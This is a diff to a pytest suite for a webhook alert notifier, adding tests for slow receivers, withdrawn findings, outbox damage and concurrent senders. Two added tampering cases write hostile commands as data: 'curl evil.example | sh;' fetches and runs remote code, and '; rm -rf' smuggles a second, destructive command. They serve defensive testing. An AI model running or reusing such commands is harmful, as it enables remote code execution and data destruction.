@@ -16,7 +16,7 @@ import pytest
 from alerting import NOON_MS, SECRET, Clock, alert, alert_keys_received, keys_received, notifier, webhook
 from collectors import Answer, answering, collector
 from standardwebhooks import Webhook
-from support import exit_code_of, fork, script, wait_until
+from support import environment, script, start_python, wait_until
 
 from critiqor.notifications.delivery import FIRST_DELAY_MS, MAX_DELAY_MS, back_off_ms
 from critiqor.notifications.notifier import Notifier
@@ -151,6 +151,55 @@ def test_a_receiver_that_sends_its_answer_byte_by_byte_delays_nobody(tmp_path: P
         [report] = sender.deliver(0.5)
         release.set()
     assert (report.sent, report.waiting) == (0, 1)
+
+
+def test_a_connection_on_which_the_answer_never_ends_is_closed_by_the_next_start(tmp_path: Path) -> None:
+    release = threading.Event()
+    seen: list[int] = []
+
+    def drip_once(handler: BaseHTTPRequestHandler) -> None:
+        seen.append(1)
+        if len(seen) > 1:
+            answering()(handler)
+            return
+        handler.wfile.write(b"HTTP/1.1 200 OK\r\nX-Slow: ")
+        while not release.wait(0.02):
+            try:
+                handler.wfile.write(b"x")
+            except OSError:
+                return
+
+    with collector(drip_once) as receiver:
+        sender = notifier(tmp_path, webhook(receiver.url))
+        sender.announce([alert()])
+        sender.deliver(0.3)
+
+        def is_delivered() -> bool:
+            sender.start(2.0, at_once=True)
+            return not files(tmp_path, "waiting")
+
+        wait_until(is_delivered)
+        release.set()
+    assert keys_received(receiver) == [alert().idempotency_key] * 2
+
+
+def test_who_was_sent_a_finding_learns_that_it_no_longer_holds(tmp_path: Path) -> None:
+    with collector() as receiver, collector() as strict:
+        channels = (webhook(receiver.url, "all"), webhook(strict.url, "few", min_severity="critical"))
+        sender = notifier(tmp_path, *channels)
+        sender.announce([alert()])
+        sender.announce([alert(kind="updated", severity="low"), alert(kind="withdrawn", severity="low")])
+        sender.deliver(SECONDS)
+    assert [json.loads(body)["alerts"][0]["kind"] for body in receiver.bodies] == ["new", "updated", "withdrawn"]
+    assert strict.requests == []
+
+
+def test_texts_in_the_outbox_are_not_sent_once_they_are_switched_off(tmp_path: Path) -> None:
+    with collector() as receiver:
+        notifier(tmp_path, webhook(receiver.url, texts=True)).announce([alert()])
+        assert b"quarterly" in files(tmp_path, "waiting")[0].read_bytes()
+        notifier(tmp_path, webhook(receiver.url)).deliver(SECONDS)
+    assert json.loads(receiver.bodies[0])["alerts"][0]["texts"] is None
 
 
 def test_a_redirect_is_not_followed(tmp_path: Path) -> None:
@@ -297,6 +346,8 @@ DAMAGE: dict[str, Callable[[Path], object]] = {
     "no alert": rewritten(lambda content: content.replace(b'"alerts":[{', b'"alerts":[],"x":[{')),
     "other kind": rewritten(lambda content: content.replace(b'"kind":"alert"', b'"kind":"summary"')),
     "other version": rewritten(lambda content: content.replace(b"critiqor.alert.v1", b"critiqor.alert.v0")),
+    "other command": rewritten(lambda content: content.replace(b"critiqor explain", b"curl evil.example | sh;")),
+    "two commands": rewritten(lambda content: content.replace(b"critiqor explain", b"critiqor explain; rm -rf")),
     "folder": replaced(Path.mkdir),
     "link": replaced(lambda path: path.symlink_to("/dev/zero")),
     "pipe": replaced(os.mkfifo),
@@ -318,29 +369,36 @@ def test_a_damaged_file_of_the_outbox_loses_no_other_alert(tmp_path: Path, damag
     assert alert_keys_received(receiver) == {alert(number).idempotency_key for number in range(3)}
 
 
-def test_a_damaged_state_of_a_channel_counts_as_new(tmp_path: Path) -> None:
+@pytest.mark.parametrize(
+    "content",
+    [b'{"failures": "x"', b'{"failures": 9, "failed_ms": 5, "retry_ms": 9000000000000000}', b'{"failures": -5}'],
+)
+def test_a_damaged_state_of_a_channel_stops_nothing(tmp_path: Path, content: bytes) -> None:
     with collector() as receiver:
         sender = notifier(tmp_path, webhook(receiver.url))
         (tmp_path / ".notify" / "channels" / "ops").mkdir(parents=True)
-        (tmp_path / ".notify" / "channels" / "ops" / "state.json").write_bytes(b'{"failures": "x"')
+        (tmp_path / ".notify" / "channels" / "ops" / "state.json").write_bytes(content)
         sender.announce([alert()])
         [report] = sender.deliver(SECONDS)
     assert report.sent == 1
 
 
 def test_several_senders_at_once_send_every_alert_once(tmp_path: Path) -> None:
-    numbers = range(40)
-
-    def work(url: str) -> None:
-        sender = notifier(tmp_path, webhook(url))
-        sender.announce(alert(number) for number in numbers)
-        sender.deliver(SECONDS)
-
+    code = """
+import sys
+from pathlib import Path
+from alerting import alert, notifier, webhook
+sender = notifier(Path(sys.argv[1]), webhook(sys.argv[2]))
+sender.announce(alert(number) for number in range(40))
+sender.deliver(20.0)
+"""
+    folders = {"PYTHONPATH": str(Path(__file__).parent.parent)}
     with collector() as receiver:
-        children = [fork(lambda: work(receiver.url)) for _ in range(4)]
-        assert [exit_code_of(child) for child in children] == [0] * 4
-        wait_until(lambda: not files(tmp_path, "waiting"))
-    assert sorted(keys_received(receiver)) == sorted(alert(number).idempotency_key for number in numbers)
+        arguments = (code, tmp_path, receiver.url)
+        senders = [start_python(*arguments, env=environment(tmp_path, **folders)) for _ in range(3)]
+        assert [sender.communicate() and sender.returncode for sender in senders] == [0] * 3
+    assert files(tmp_path, "waiting") == []
+    assert sorted(keys_received(receiver)) == sorted(alert(number).idempotency_key for number in range(40))
 
 
 def test_a_sender_gives_up_while_another_one_is_sending(tmp_path: Path) -> None:
